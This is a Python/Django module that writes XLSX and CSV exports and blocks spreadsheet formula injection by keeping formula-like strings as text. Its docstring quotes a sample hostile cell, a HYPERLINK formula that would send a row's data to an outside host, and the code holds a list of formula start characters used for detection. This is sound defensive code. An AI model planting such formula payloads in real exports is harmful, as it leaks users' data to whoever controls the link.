"""Spreadsheets the platform writes (XLSX through openpyxl, CSV through the csv module), and the one
rule every one of them follows: a text cell is text, never a formula.

A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@` (and some also after a
leading tab or carriage return) as a formula: an observation's text `=HYPERLINK("http://x/?"&A2,
"详情")` would become a live link that sends the row's data away. So every cell goes through this
module:
- XLSX: `append_row` writes such a string as a string cell (data_type "s") with the quote-prefix
  style, so the workbook stores text and the program keeps it text when someone edits the cell.
- CSV: `csv_safe` puts an apostrophe before such a string (OWASP, "CSV Injection"); `csv_writer`
  wraps csv.writer so that every row goes through it.
Only strings are neutralised: numbers (negative ones included) stay numbers.
"""

import csv
import re
from decimal import Decimal
from io import BytesIO

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value) -> bool:
    """True for a string a spreadsheet program could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def append_row(sheet, values) -> list:
    """Append one row to an openpyxl worksheet, every formula-like string as plain text. Returns the
    row's cells."""
    values = list(values)
    sheet.append(values)
    # The row append() just wrote. Not sheet.max_row: that scans every cell of the sheet, which made
    # writing a sheet quadratic in its rows (minutes for a district export).
    row = sheet._current_row
    cells = [sheet.cell(row=row, column=column) for column in range(1, len(values) + 1)]
    for cell, value in zip(cells, values, strict=False):
        if formula_like(value):
            # openpyxl types a string starting with "=" as a formula ("f"); force text, and mark
            # the cell quote-prefixed so the program keeps it text when the cell is edited.
            cell.value = value
            cell.data_type = "s"
            cell.quotePrefix = True
    return cells


def csv_safe(value):
    """A CSV field value that no spreadsheet program runs as a formula."""
    if formula_like(value):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([csv_safe(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> _SafeWriter:
    """csv.writer(stream, **kwargs), with every field passed through csv_safe."""
    return _SafeWriter(csv.writer(stream, **kwargs))


def xlsx_response(*, filename: str, title: str, headers: list[str], rows) -> HttpResponse:
    return xlsx_workbook_response(filename=filename, sheets=[(title, headers, rows)])


def xlsx_workbook_response(*, filename: str, sheets) -> HttpResponse:
    """An XLSX download with one sheet per (title, headers, rows), bold headers, fitted widths, and
    every text cell kept as text (append_row)."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, headers, rows in sheets:
        # Excel refuses these characters in sheet names, and names longer than 31.
        sheet = workbook.create_sheet(re.sub(r"[:\\/?*\[\]]", "-", str(title))[:31] or "Sheet")
        for cell in append_row(sheet, [str(h) for h in headers]):
            cell.font = Font(bold=True)
        widths = [len(str(h)) * 2 + 2 for h in headers]
        for row in rows:
            values = [_cell(v) for v in row]
            append_row(sheet, values)
            for i, v in enumerate(values):
                widths[i] = min(60, max(widths[i], len(str(v if v is not None else "")) * 2 + 2))
        for i, width in enumerate(widths, start=1):
            sheet.column_dimensions[get_column_letter(i)].width = width
        sheet.freeze_panes = "A2"
    buffer = BytesIO()
    workbook.save(buffer)
    response = HttpResponse(
        buffer.getvalue(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    stamp = timezone.localdate().strftime("%Y%m%d")
    from urllib.parse import quote

    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{quote(f'{filename}-{stamp}.xlsx')}"
    return response


def _cell(value):
    if hasattr(value, "tzinfo") and value.tzinfo is not None:
        return timezone.localtime(value).replace(tzinfo=None)
    if value is None or isinstance(value, (int, float, Decimal, str)) or hasattr(value, "isoformat"):
        return value
    return str(value)
